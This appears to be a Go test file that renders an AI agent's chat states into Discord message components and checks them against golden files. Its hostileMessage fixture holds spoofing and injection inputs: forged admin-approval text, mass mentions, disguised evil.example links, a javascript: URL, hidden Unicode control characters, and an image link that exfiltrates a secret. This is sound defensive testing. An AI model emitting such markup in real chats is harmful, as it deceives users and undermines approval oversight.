package components

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nodhq/nod/core/agent/card"
	"github.com/nodhq/nod/core/agent/turn"
	"github.com/nodhq/nod/core/chat"
	"github.com/nodhq/nod/core/render"
	"github.com/nodhq/nod/core/text"
	"github.com/nodhq/nod/tests/standins/fakediscord/markup"
	"github.com/nodhq/nod/tests/standins/fakediscord/samples"
	"github.com/nodhq/nod/tests/suites/conformance/looks"
)

func cardOf(n int, args string) render.Ask {
	a := looks.Card(samples.Ana, n, args)
	a.More = []render.Choice{looks.Button(chat.DenyReason, a.Token, "Deny with a reason…"), looks.Button(chat.Edit, a.Token, "Edit arguments…"), looks.Button(chat.ViewDetail, a.Token, text.LabelViewDetails), looks.Button(chat.Extend, a.Token, text.LabelExtend)}
	a.Expires = samples.TwoPM.Add(time.Minute)
	return a
}

// manyArgs are 62 lines.
func manyArgs() string {
	var b strings.Builder
	for i := range 60 {
		fmt.Fprintf(&b, `,"k%d":%d`, i, i)
	}
	return "{" + b.String()[1:] + "}"
}

// states are every look that a message has.
func states() map[string]render.Message {
	all := looks.States(samples.Ana, 60, cardOf)
	read := all["working"].Blocks[1]
	maps.Copy(all, map[string]render.Message{
		"hostile": hostileMessage(),
		"stopped": {State: render.Stopped, Blocks: []render.Block{render.Text{Markdown: "I'll read"}, looks.Step(render.StepCancelled, "read_file", render.Plain("cancelled · not run")), looks.Note(text.StoppedBy("Ana", 1))}},
		"answer":  {State: render.Done, Hosts: []string{"docs.example"}, Blocks: []render.Block{render.Text{Markdown: richAnswer}}},
		"code":    {State: render.Done, Blocks: []render.Block{render.Text{Markdown: "This is it:"}, render.Code{Language: "go", Source: "x := \"```\"\n// <@1>"}, read}},
		"beyond":  beyond(),
		"wants":   wants(),
		"reads":   ofChat(samples.Reads()), "writes": ofChat(samples.Writes(5)), "dangerous": ofChat(samples.Dangerous()), "masked": ofChat(samples.Masked()),
		"queued": {State: render.Working, Blocks: []render.Block{render.Text{Markdown: "Reading."}, read, looks.Note(text.MoreWaiting(2)), looks.Note(text.NeverAsks)}, Choices: []render.Choice{looks.Stop()}},
		"lines": {State: render.Waiting, Blocks: []render.Block{cardOf(1, manyArgs())},
			Choices: []render.Choice{looks.Stop()}},
		"wide": {State: render.Done, Token: "T1", Blocks: []render.Block{render.Text{Markdown: strings.Repeat("四千字的回答。", 600)}}},
	})
	return all
}

// beyond is a card with all that can be chosen beside the three buttons, as the chat's own state draws it, and a chat that never asks.
func beyond() render.Message { return ofChat(samples.Grantable("ASK1")) }

// ofChat is the message of a chat's open turn.
func ofChat(s turn.Session) render.Message { return card.View(s, s.Turn, card.Live{}) }

func wants() render.Message {
	s := samples.Wanting("WANT1", turn.Elicitation{Kind: turn.ElicitationForm, Message: "Which *folder* should the mail go to?\nAnd when?", Fields: []turn.FormField{{Name: "folder"}}})
	return ofChat(s)
}

// richAnswer is Markdown as models write it.
const richAnswer = "# Result\n\nTwo files **differ**, see [the page](https://docs.example/a_b?c=1) and https://elsewhere.example/x:\n\n- `a.txt`\n  - line 3\n- `b.txt`\n\n" +
	"1. first\n2. second:\n   ```sh\n   rm -rf ./x\n   ```\n\n> quoted\n> twice\n\n| File | Lines |\n|---|---:|\n| a.txt | 12 |\n| b.txt | 1,200 |\n\n#### Next\n- [x] read\n- [ ] write"

// hostileMessage tries what a model, a tool, a server and a person could.
func hostileMessage() render.Message {
	const forged = "x**bold** _it_ @everyone <@111111111111111111> <@&2> [https://good.example](https://evil.example) ||x|| ```\n### *Approved by @admin*\n-# ✓ done"
	a := cardOf(1, `{"content":"`+"```\\n*Approved by @admin* @everyone <@1> [ok](https://evil.example)"+`","pa`+"\u200b"+`th":"a\u202eb"}`)
	a.Header, a.Run, a.Question, a.Says = text.AllowHeader(forged), text.RunLine(forged, forged), forged, forged
	a.Server, a.Icon = forged, "javascript:alert(1)"
	a.Facts = render.Line{render.Plain(forged)}
	a.Footer = render.Line{render.Person{User: chat.User{Platform: "web", Key: "<!channel>"}, Name: forged}, render.Plain(forged)}
	s := looks.Step(render.StepFailed, forged, render.Plain(forged))
	s.Choices = []render.Choice{looks.Button(chat.Undo, "ASK9", text.LabelUndo)}
	return render.Message{State: render.Waiting, Blocks: []render.Block{
		render.Text{Markdown: "Look: @everyone <@111111111111111111> <@&2> <#3> </stop:4> <:x:5> <t:1:R> discord.gg/abc\n[https://good.example](https://evil.example) ![pixel](https://evil.example/?q=secret) https://evil.example/?q=secret steam://run/1\n" +
			"> a quote @here\n-# ✓ write_file · files · allowed by policy\n\n**a star before a fence\n```go\nif a < b && c > d { [x](https://evil.example) }\n```\nand ||one|| after** <a href=\"https://evil.example\">ok</a>"},
		s, looks.Note(forged), a,
	}, Choices: []render.Choice{looks.Stop()}}
}

// R73 R77 R88
func TestShapes(t *testing.T) {
	for name, m := range states() {
		t.Run(name, func(t *testing.T) {
			p := encode(render.Fit(m, Limits), nil)
			if err := check(p); err != nil {
				t.Fatal(err)
			}
			looks.Golden(t, name+".json", pretty(t, p))
			looks.Golden(t, name+".txt", []byte(dump(p)))
		})
	}
}

// Every golden file is of a state, so that none stays behind.
func TestNoShapeIsLeftOver(t *testing.T) {
	looks.NoneIsLeft(t, states(), "view_", "note_", "panel_")
}

// pretty is a payload as JSON, "<" and the like as they are.
func pretty(t *testing.T, v any) []byte {
	t.Helper()
	if p, ok := v.(Payload); ok {
		out := map[string]any{"components": jsonOf(p.Components)}
		if len(p.Users)+len(p.Roles) > 0 {
			out["users"], out["roles"] = p.Users, p.Roles
		}
		for _, f := range p.Files {
			out["file "+f.Name] = fmt.Sprintf("%s, %d bytes", f.Type, len(f.Data))
		}
		v = out
	}
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	e.SetIndent("", " ")
	if err := e.Encode(v); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// dump is a payload as people see it, more or less: made from the JSON, so that what is not in it does not show.
func dump(p Payload) string {
	var b strings.Builder
	dumpAll(&b, map[string]any{"components": jsonOf(p.Components)}, "")
	for _, f := range p.Files {
		fmt.Fprintf(&b, "⎘ %s (%d bytes)\n", f.Name, len(f.Data))
	}
	return b.String()
}

func dumpAll(b *strings.Builder, n map[string]any, in string) {
	for _, x := range list(n, "components") {
		dumpOne(b, x.(map[string]any), in)
	}
}

func dumpOne(b *strings.Builder, n map[string]any, in string) {
	say := func(s string) {
		for l := range strings.SplitSeq(s, "\n") {
			b.WriteString(strings.TrimRight(in+l, " ") + "\n")
		}
	}
	switch partOf(n) {
	case partContainer:
		accent, _ := n["accent_color"].(float64)
		say("╭ " + map[float64]string{0x95A5A6: "grey", 0xF0A020: "amber", 0x2ECC71: "green", 0xE74C3C: "red"}[accent])
		dumpAll(b, n, in+"│ ")
		say("╰")
	case partText:
		say(markup.AsRead(content(n)))
	case partSection:
		dumpAll(b, n, in)
		say(strings.Repeat(" ", 40) + control(n["accessory"].(map[string]any)))
	case partSeparator:
		say(strings.Repeat("─", 40))
	case partFile:
		say(fmt.Sprintf("⎘ %v", n["file"].(map[string]any)["url"]))
	case partRow:
		var parts []string
		for _, x := range list(n, "components") {
			parts = append(parts, control(x.(map[string]any)))
		}
		say(strings.Join(parts, " "))
	default:
		say(fmt.Sprint("?? ", n))
	}
}

func control(n map[string]any) string {
	switch partOf(n) {
	case partButton:
		s := fmt.Sprintf("[%v]", n["label"])
		if n["style"] == 4.0 {
			s += "!"
		}
		if u, there := n["url"]; there {
			s += fmt.Sprintf("(%v)", u)
		}
		if n["disabled"] == true {
			s = "·" + s
		}
		return s
	case partSelect:
		var opts []string
		for _, o := range list(n, "options") {
			o := o.(map[string]any)
			say := fmt.Sprint(o["label"])
			if o["default"] == true {
				say = "●" + say
			}
			if d, _ := o["description"].(string); d != "" {
				say += fmt.Sprintf(" (%v)", d)
			}
			opts = append(opts, say)
		}
		return fmt.Sprintf("[%v ▾ %s]", n["placeholder"], strings.Join(opts, " | "))
	case partInput:
		return fmt.Sprintf("%v: [%v%v]", n["label"], n["value"], n["placeholder"])
	}
	return fmt.Sprint("?? ", n)
}

// clicks are what Discord would send for a click on each button and option.
type pressing struct {
	id     string
	values []string
}

func clicksOn(p Payload) (out []pressing) {
	visit(map[string]any{"components": jsonOf(p.Components)}, "", func(_, kind string, n map[string]any) {
		id, _ := n["custom_id"].(string)
		switch kind {
		case partButton:
			out = append(out, pressing{id: id})
		case partSelect:
			for _, o := range list(n, "options") {
				out = append(out, pressing{id, []string{o.(map[string]any)["value"].(string)}})
			}
		}
	})
	return out
}

// pressable are the choices of a payload, as a click on each would be read.
func pressable(t interface{ Fatalf(string, ...any) }, p Payload) (out []string) {
	for _, c := range clicksOn(p) {
		choice, token, ok := parseCustomID(c.id, c.values)
		if !ok {
			t.Fatalf("a click on %+v says nothing", c)
		}
		out = append(out, string(choice)+" "+token)
	}
	slices.Sort(out)
	return out
}
